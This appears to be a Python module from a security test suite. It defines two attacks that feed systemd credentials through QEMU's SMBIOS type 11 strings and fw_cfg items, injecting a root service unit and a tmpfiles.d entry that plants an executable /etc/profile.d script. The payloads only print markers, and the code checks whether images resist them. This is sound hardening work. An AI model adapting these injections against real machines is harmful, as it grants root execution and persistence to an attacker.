"""Credentials that systemd takes from the host's firmware tables: units to run and files to write, as root.

Source: systemd.system-credentials(7) and systemd-stub(7) of systemd 257: SMBIOS type 11 strings and fw_cfg items.
"""

import base64
from collections.abc import Sequence
from functools import partial
from pathlib import Path
from typing import Final

from warily.adversary.attack import Attack, Seen, Together, refused, succeeded
from warily.adversary.targets import MARK, ControlTarget, ImageTarget

RUNS_WITHIN: Final = 60.0
SMBIOS: Final = "smbios"
FW_CFG: Final = "fw-cfg"


UNIT: Final = f"""\
[Unit]
DefaultDependencies=no

[Service]
Type=oneshot
ExecStart=/bin/sh -c 'echo {MARK} {SMBIOS} ran as $(id -un) > /dev/ttyS0'
"""
CREDENTIALS: Final = {
    "systemd.extra-unit.host.service": UNIT,
    "systemd.unit-dropin.basic.target~host": "[Unit]\nWants=host.service\n",
}
# QEMU takes names of up to 55 characters, too few for the other. tmpfiles.d(5): `f+` makes a file, `w` writes to one.
TMPFILES: Final = f"""\
f+ /etc/profile.d/host.sh 0755 root root - touch /root/host
w /dev/ttyS0 - - - - {MARK} {FW_CFG} had systemd write files as root\\n
"""


def by_smbios(folder: Path) -> Sequence[str]:
    """Type 11 strings, in base64, which systemd calls binary credentials."""
    del folder
    words: list[str] = []
    for name, text in CREDENTIALS.items():
        content = base64.b64encode(text.encode()).decode()
        words += ["-smbios", f"type=11,value=io.systemd.credential.binary:{name}={content}"]
    return words


def by_fw_cfg(folder: Path) -> Sequence[str]:
    """An item under opt/io.systemd.credentials, from a file."""
    file = folder / "tmpfiles.extra"
    file.write_text(TMPFILES)
    return ("-fw_cfg", f"name=opt/io.systemd.credentials/tmpfiles.extra,file={file}")


def on_control(target: ControlTarget, *, what: str) -> Seen:
    """Whether Debian ran the unit."""
    line = target.printed(what, RUNS_WITHIN)
    return succeeded(f"on the console: {line}") if line else refused("what it asked for never happened")


def on_image(target: ImageTarget, *, what: str) -> Seen:
    """Whether the image did."""
    line = target.printed(what)
    return succeeded(f"on the console: {line}") if line else target.nothing_happened("nothing it asked for happened")


ATTACKS: Final[tuple[Attack, ...]] = (
    Attack(
        id="credentials.smbios",
        title="SMBIOS strings hand systemd a unit that runs as root",
        component="firmware",
        catalogue=("A10",),
        how=Together(
            arguments=by_smbios, control=partial(on_control, what=SMBIOS), image=partial(on_image, what=SMBIOS)
        ),
    ),
    Attack(
        id="credentials.fw-cfg",
        title="An item of QEMU's fw_cfg has systemd write files as root",
        component="firmware",
        catalogue=("A09", "A10"),
        how=Together(
            arguments=by_fw_cfg, control=partial(on_control, what=FW_CFG), image=partial(on_image, what=FW_CFG)
        ),
    ),
)
